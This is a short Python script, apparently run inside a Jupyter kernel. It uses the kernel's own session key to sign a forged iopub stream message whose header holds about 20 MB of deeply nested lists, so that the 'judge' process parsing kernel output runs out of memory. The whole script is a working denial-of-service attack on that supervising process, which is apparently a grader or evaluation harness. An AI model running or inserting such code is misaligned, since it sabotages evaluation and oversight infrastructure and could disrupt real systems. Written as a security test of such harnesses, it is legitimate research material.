"""Fill the judge's memory with a signed message, whose header is of lists in lists (20 MB, each many times larger in memory)."""

import time
kernel = get_ipython().kernel
lists = b",".join([b"[" * 150 + b"]" * 150] * 66_000)
frames = [b'{"msg_id": "1", "msg_type": "stream", "x": [' + lists + b"]}", b"{}", b"{}", b"{}"]
frames = [b"stream", b"<IDS|MSG>", kernel.session.sign(frames), *frames]
kernel.iopub_thread.schedule(lambda: kernel.iopub_thread.socket.send_multipart(frames))
time.sleep(5)
